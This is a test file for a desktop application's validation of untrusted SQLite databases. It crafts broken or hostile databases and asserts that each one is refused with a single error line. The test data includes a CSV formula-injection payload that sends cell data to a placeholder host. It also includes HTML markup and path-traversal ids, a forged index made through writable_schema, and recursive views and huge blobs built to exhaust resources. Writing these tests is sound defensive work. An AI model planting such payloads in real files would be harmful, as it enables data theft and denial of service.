"""A database handed over with ``--db`` is untrusted: each crafted kind is one line, not a trace,
a hang or a crash, and the window offers the bundled database instead.

Each case is the committed edition's database with one thing made wrong by plain SQL, as anyone
could. The line the user reads is asserted whole.
"""

from __future__ import annotations

import os
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt, QTimer
from PySide6.QtWidgets import QApplication, QMessageBox

from gui.cli import main
from gui.database.schema import SEARCH_COLUMNS
from gui.database.store import COPY_BYTES, Store, StoreError
from gui.qt.app import open_store
from gui.qtcommon.i18n import tr

from . import crafted
from .conftest import ROOT

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
RECURSIVE = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
LONG_ID = "m" + "x" * 300


def recursive_milestones() -> str:
    return (
        "DROP TABLE milestones; CREATE VIEW milestones AS " + RECURSIVE + "SELECT 'm' || n AS id, "
        "n AS position, '2020-01-01' AS date, 'overview' AS domain_id, 'plan' AS kind, "
        "'t' AS title_zh, 't' AS title_en, 'q' AS quote, 0 AS quote_start, 1 AS quote_end FROM r"
    )


def formula_everywhere(c: sqlite3.Connection) -> None:
    """The formula in every column that is not a key (a key changed would be another row)."""
    tables = [r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    for table in tables:
        if table.startswith(("search_index", "search_grams")) or table == "sqlite_sequence":
            continue
        info = c.execute(f'PRAGMA table_info("{table}")').fetchall()
        sets = ", ".join(f'"{r[1]}" = ?' for r in info if not r[5])
        if sets:
            c.execute(f'UPDATE "{table}" SET {sets}', [FORMULA] * sets.count("?"))


def forged_units_index(c: sqlite3.Connection) -> None:
    """The units' key index swapped for one that also holds 'nope', and an indicator of unit
    'nope': every check through the index finds the unit, which the table lacks."""
    c.executescript(
        "CREATE TABLE fake AS SELECT * FROM units WHERE 0; CREATE UNIQUE INDEX fake_id ON fake(id);"
        "INSERT INTO fake SELECT * FROM units; INSERT INTO fake (id, zh, en, en_one, dimension) "
        "VALUES ('nope', 'x', 'x', 'x', 'count');"
    )
    root = c.execute("SELECT rootpage FROM sqlite_master WHERE name = 'fake_id'").fetchone()[0]
    c.execute("PRAGMA writable_schema = ON")
    c.execute(
        "UPDATE sqlite_master SET rootpage = ? WHERE name = 'sqlite_autoindex_units_1'", (root,)
    )
    c.execute("DELETE FROM sqlite_master WHERE name IN ('fake', 'fake_id')")
    c.commit()
    c.execute("PRAGMA writable_schema = OFF")
    c.execute("UPDATE indicators SET unit_id = 'nope' WHERE id = 'hotline.requests'")


# name → (SQL or a function on the connection, the user's line after "error: PATH: ")
CASES: dict[str, tuple[str | Callable[[sqlite3.Connection], None], str]] = {
    "recursive view": (
        recursive_milestones(),
        "milestones is a view, not a table; this application reads only tables",
    ),
    "view of a huge blob": (
        "DROP TABLE source; CREATE VIEW source AS SELECT 'article' AS id, 'p' AS path, "
        "'s' AS sha256, CAST(zeroblob(900000000) AS TEXT) AS text",
        "source is a view, not a table; this application reads only tables",
    ),
    "huge text": (
        "UPDATE source SET text = text || replace(hex(zeroblob(9000000)), '0', 'a')",
        "holds a value larger than 16 MB, which no governance database has",
    ),
    "blob in a text column": (
        "UPDATE indicators SET name_zh = x'00ff' WHERE id = 'hotline.requests'",
        "indicators.name_zh of row 'hotline.requests' (blob b'\\x00\\xff') is not text",
    ),
    "formula in every column": (
        formula_everywhere,
        "citations.kind of row 'report' (text '=HYPERLINK(\"http://example.invalid/?\"&…) "
        "is not one of 'report', 'article'",
    ),
    "formula in the value": (
        f"UPDATE observations SET value = '{FORMULA.replace(chr(39), chr(39) * 2)}' "
        "WHERE id = 'hotline.requests.2020'",
        "observations.value of row 'hotline.requests.2020' "
        '(text \'=HYPERLINK("http://example.invalid/?"&…) is not a finite number below 1e+15',
    ),
    "missing unit": (
        "UPDATE indicators SET unit_id = 'nope' WHERE id = 'hotline.requests'",
        "indicators.unit_id of row 'hotline.requests' refers to units 'nope', "
        "which is not in the database",
    ),
    "missing figure of a chart": (
        "UPDATE chart_items SET observation_id = 'gone.2020' WHERE rowid = 1",
        "chart_items.observation_id of row chart_id 'actors.people_mobilised', position 0 "
        "refers to "
        "observations 'gone.2020', which is not in the database",
    ),
    "missing indicator": (
        "UPDATE observations SET indicator_id = 'nope' WHERE id = 'hotline.requests.2020'",
        "observations.indicator_id of row 'hotline.requests.2020' refers to indicators 'nope', "
        "which is not in the database",
    ),
    "thirteenth month": (
        "UPDATE milestones SET date = '2020-13-01' WHERE position = 0",
        "milestones.date of row 'subdistrict_offices_regulations' (text '2020-13-01') "
        "is not a date (YYYY-MM-DD)",
    ),
    "citation accessed on a thirteenth month": (
        "UPDATE citations SET accessed = '2021-13-45' WHERE id = 'article'",
        "citations.accessed of row 'article' (text '2021-13-45') is not a date (YYYY-MM-DD)",
    ),
    "direction sideways": (
        "UPDATE observations SET direction = 'sideways' WHERE id = 'hotline.requests.2020'",
        "observations.direction of row 'hotline.requests.2020' (text 'sideways') is not one of "
        "'up', 'down', 'flat', 'broadly_flat'",
    ),
    "chart without items": (
        "DELETE FROM chart_items WHERE chart_id = 'actors.grassroots'",
        "charts row 'actors.grassroots' has no items in chart_items; a chart draws at least one",
    ),
    "denormal value": (
        "UPDATE observations SET value = 5e-324 WHERE id = 'hotline.requests.2020'",
        "observations.value of row 'hotline.requests.2020' (real '4.94065645841247e-324') "
        "is not a figure (other than 0, at least 1e-06 in size)",
    ),
    "duplicate rows without a primary key": (
        "CREATE TABLE x AS SELECT * FROM units; INSERT INTO x SELECT * FROM units "
        "WHERE id = 'percent'; DROP TABLE units; ALTER TABLE x RENAME TO units",
        "units holds row 'percent' 2 times; its key (id) names each row once",
    ),
    "forged index": (
        forged_units_index,
        "is damaged: SQLite's integrity_check says 'wrong # of entries in index "
        "sqlite_autoindex_units_1'",
    ),
    "control character": (
        "UPDATE indicators SET name_en = 'a' || char(1) || 'b' WHERE id = 'hotline.requests'",
        "indicators.name_en of row 'hotline.requests' (text 'a\\x01b') holds a character no "
        "document can hold (a control character, U+FFFE or U+FFFF)",
    ),
    "non-character": (
        "UPDATE units SET zh = zh || char(65534) WHERE id = 'percent'",
        "units.zh of row 'percent' (text '%\\ufffe') holds a character no document can hold "
        "(a control character, U+FFFE or U+FFFF)",
    ),
    "thirtieth of February": (
        "UPDATE milestones SET date = '2021-02-30' WHERE position = 0",
        "milestones.date of row 'subdistrict_offices_regulations' (text '2021-02-30') "
        "is not a date (YYYY-MM-DD)",
    ),
    "infinite number": (
        "UPDATE observations SET value = 9e999 WHERE id = 'hotline.requests.2020'",
        "observations.value of row 'hotline.requests.2020' (real 'Inf') "
        "is not a finite number below 1e+15",
    ),
    "text in an integer column": (
        "UPDATE observations SET position = 'first' WHERE id = 'hotline.requests.2020'",
        "observations.position of row 'hotline.requests.2020' (text 'first') "
        "is not a whole number from 0 to 2147483647",
    ),
    "offset outside the article": (
        "UPDATE observations SET quote_end = 999999 WHERE id = 'hotline.requests.2020'",
        "observations.quote_start and quote_end of row 'hotline.requests.2020' "
        "(integer '{quote_start}', integer '999999') do not mark a place in the article "
        "({article} characters)",
    ),
    "id over 255 bytes": (
        f"UPDATE milestones SET id = '{LONG_ID}' WHERE position = 0",
        "milestones.id of row 'm" + "x" * 37 + "… (text 'm" + "x" * 37 + "…) "
        "is not an id (letters, digits, '.', '_' or '-', at most 128)",
    ),
    "markup in an id": (
        "UPDATE charts SET id = '<img src=\"/dev/zero\">' WHERE position = 0",
        "charts.id of row '<img src=\"/dev/zero\">' (text '<img src=\"/dev/zero\">') "
        "is not an id (letters, digits, '.', '_' or '-', at most 128)",
    ),
    "edition id with a slash": (
        "UPDATE meta SET value = '../../x' WHERE key = 'edition_id'",
        "meta.value of row 'edition_id' ('../../x') is not an id "
        "(letters, digits, '.', '_' or '-', at most 128)",
    ),
    "missing search index": (
        "DROP TABLE search_index",
        "has no search index (the table search_index); rebuild the database with "
        "`bjgov data build`",
    ),
    "search index without its data": (
        "DROP TABLE search_index_docsize",
        "its search index is incomplete: it has no table search_index_docsize",
    ),
    "search index over a recursive view": (
        "DROP TABLE search_index; CREATE VIEW evil AS "
        + RECURSIVE
        + "SELECT n AS rowid, "
        + ", ".join(f"'x' AS {c}" for c in ("observation_id", *SEARCH_COLUMNS))
        + " FROM r; CREATE VIRTUAL TABLE search_index USING fts5(observation_id UNINDEXED, "
        + ", ".join(SEARCH_COLUMNS)
        + ", content='evil', tokenize = 'trigram')",
        "its search index (search_index) is not the one this application builds",
    ),
    "search index with an unknown rank function": (
        "INSERT INTO search_index_config VALUES ('rank', 'nosuch()')",
        "its search index has settings this application does not make "
        "(search_index_config: ['rank', 'version'])",
    ),
    "100,000 milestones": (
        "INSERT INTO milestones SELECT 'm' || n, n + 100, '2020-01-01', 'overview', 'plan', "
        "'t', 't', 'q', 0, 1 FROM ("
        + RECURSIVE.replace("SELECT n + 1 FROM r)", "SELECT n + 1 FROM r WHERE n < 100000)")
        + "SELECT n FROM r)",
        "milestones has 100,007 rows, more than the 500 an edition may have",
    ),
    "61 items in one chart": (
        "INSERT INTO chart_items SELECT chart_id, position + 100 + n, observation_id, field, "
        "label_zh, label_en, series_zh, series_en, share_observation_id FROM chart_items, ("
        + RECURSIVE.replace("SELECT n + 1 FROM r)", "SELECT n + 1 FROM r WHERE n < 61)")
        + "SELECT n FROM r) WHERE chart_id = 'actors.grassroots' AND position = 0",
        "chart_items has 64 rows for chart_id 'actors.grassroots', more than the 60 this "
        "application draws together",
    ),
    "extra column": (
        "ALTER TABLE observations ADD COLUMN extra TEXT",
        "observations has a column 'extra' that this application does not know",
    ),
    "generated column": (
        "ALTER TABLE units ADD COLUMN big TEXT GENERATED ALWAYS AS (zeroblob(900000000)) VIRTUAL",
        "units.big is a generated column; a governance database has none",
    ),
    "trigger": (
        "CREATE TRIGGER t AFTER UPDATE ON observations BEGIN SELECT 1; END",
        "has a trigger ('t' on 'observations'); a governance database has none",
    ),
}


def craft(built: Path, target: Path, change: str | Callable[[sqlite3.Connection], None]) -> None:
    crafted.database(built, target, change)


@pytest.mark.parametrize("case", sorted(CASES))
def test_one_line_and_exit_2(
    case: str,
    built_db: Path,
    tmp_path: Path,
    settings_file: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    change, problem = CASES[case]
    with sqlite3.connect(built_db) as edition:  # what the edition itself says, read plainly
        problem = problem.replace(
            "{quote_start}",
            str(
                edition.execute(
                    "SELECT quote_start FROM observations WHERE id = 'hotline.requests.2020'"
                ).fetchone()[0]
            ),
        ).replace(
            "{article}",
            str(edition.execute("SELECT length(text) FROM source").fetchone()[0]),
        )
    path = tmp_path / "crafted.db"
    craft(built_db, path, change)
    before = path.read_bytes()
    window = ["--db", str(path), "--quit-after-paint"]
    if path.stat().st_size > COPY_BYTES:
        # A large file: the window paints first and refuses it after (test_late_validation),
        # with the same one line as the validation here.
        window = []
        with Store(path, validate=False) as store, pytest.raises(StoreError) as raised:
            store.validate()
        assert raised.value.problem.startswith(problem), raised.value.problem
    for argv in (
        *([window] if window else []),
        ["export", "--format", "csv", "--db", str(path), "--output", str(tmp_path / "x.csv")],
        ["print", "--domain", "all", "--db", str(path), "--output", str(tmp_path / "x.pdf")],
    ):
        started = time.monotonic()
        assert main(argv) == 2, argv
        assert time.monotonic() - started < 10  # refused at once, never run
        err = capsys.readouterr().err.strip().split("\n")
        assert len(err) == 1, err
        assert err[0].startswith(f"error: {path}: {problem}"), err[0]
    assert not (tmp_path / "x.csv").exists()
    assert not (tmp_path / "x.pdf").exists()
    assert path.read_bytes() == before  # opened read-only: nothing changed


def answer(button: QMessageBox.StandardButton, seen: list[QMessageBox]) -> None:
    box = QApplication.activeModalWidget()
    if isinstance(box, QMessageBox):
        seen.append(box)
        box.button(button).click()
    else:
        QTimer.singleShot(50, lambda: answer(button, seen))


def test_the_window_offers_the_bundled_database(qtbot: Any, built_db: Path, tmp_path: Path) -> None:
    path = tmp_path / "crafted.db"
    craft(
        built_db,
        path,
        "UPDATE indicators SET unit_id = '<img src=\"/dev/zero\"><b>x</b>' "
        "WHERE id = 'hotline.requests'",
    )
    seen: list[QMessageBox] = []
    QTimer.singleShot(50, lambda: answer(QMessageBox.StandardButton.Open, seen))
    store = open_store(path, interactive=True)
    assert store is not None
    assert store.path != path  # the bundled one
    store.close()
    box = seen[0]
    assert box.textFormat() == Qt.TextFormat.PlainText  # the file's markup stays characters
    assert box.text() == (
        f"{path}\n\nindicators.unit_id of row 'hotline.requests' refers to units "
        "'<img src=\"/dev/zero\"><b>x</b>', which is not in the database\n\n"
        + tr("Open the bundled database instead?")  # in the language installed
    )


def test_a_slow_query_is_stopped(built_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Store, "query_seconds", 0.3)
    with Store(built_db) as store:
        started = time.monotonic()
        with pytest.raises(StoreError, match=r"a query took longer than 0\.3 s and was stopped"):
            store._rows(
                "SELECT count(*) FROM observations a, observations b, observations c, "
                "observations d, observations e"
            )
        assert time.monotonic() - started < 3
        assert len(store.domains()) == 7  # the next query runs as before


def test_ctrl_c_stops_a_query(built_db: Path) -> None:
    with Store(built_db) as store:
        signal.setitimer(signal.ITIMER_REAL, 0.3)
        previous = signal.signal(signal.SIGALRM, lambda *_: signal.raise_signal(signal.SIGINT))
        started = time.monotonic()
        try:
            with pytest.raises(KeyboardInterrupt):
                store._rows(
                    "SELECT count(*) FROM observations a, observations b, observations c, "
                    "observations d, observations e"
                )
        finally:
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, previous)
        assert time.monotonic() - started < 3


def test_text_that_is_not_utf8_is_shown_replaced(built_db: Path, tmp_path: Path) -> None:
    path = tmp_path / "latin.db"
    craft(
        built_db,
        path,
        "UPDATE indicators SET name_zh = CAST(x'e5ff41' AS TEXT) WHERE id = 'hotline.requests'",
    )
    with Store(path) as store:
        found = store.observation("hotline.requests.2020")
        assert found is not None
        assert found.name_zh == "\ufffd\ufffdA"
    assert (
        main(["export", "--format", "csv", "--db", str(path), "--output", str(tmp_path / "x.csv")])
        == 0
    )


def test_a_name_over_255_bytes_is_shown_printed_and_exported(
    built_db: Path, tmp_path: Path, settings_file: Path
) -> None:
    """A long name is text like any other (ids are what end in file names, and are checked)."""
    path = tmp_path / "long.db"
    name = "名" * 100  # 300 bytes in UTF-8
    craft(
        built_db,
        path,
        f"UPDATE indicators SET name_zh = '{name}' WHERE id = 'hotline.requests'; "
        f"UPDATE domains SET title_zh = '{name}', tab_zh = '{name}' WHERE id = 'hotline'",
    )
    window = subprocess.run(  # a process of its own: a window left behind quits later loops
        [sys.executable, "-m", "gui", "--db", str(path), "--quit-after-paint"],
        cwd=ROOT,
        env=os.environ | {"QT_QPA_PLATFORM": "offscreen", "XDG_CONFIG_HOME": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert window.returncode == 0, window.stderr
    assert (
        main(
            ["print", "--domain", "hotline", "--db", str(path), "--output", str(tmp_path / "l.pdf")]
        )
        == 0
    )
    assert (
        main(["export", "--format", "csv", "--db", str(path), "--output", str(tmp_path / "l.csv")])
        == 0
    )
    assert name in (tmp_path / "l.csv").read_text(encoding="utf-8-sig")


def test_the_synthetic_database_of_the_benchmarks_is_valid(tmp_path: Path) -> None:
    from tests.synthetic import make

    path = make(tmp_path / "synthetic.db", 500, cards=50, domain="hotline")
    with Store(path) as store:
        assert len(store.observations("hotline")) == 500 + 19
        assert len(store.cards("hotline")) == 50 + 7  # and the edition's own seven
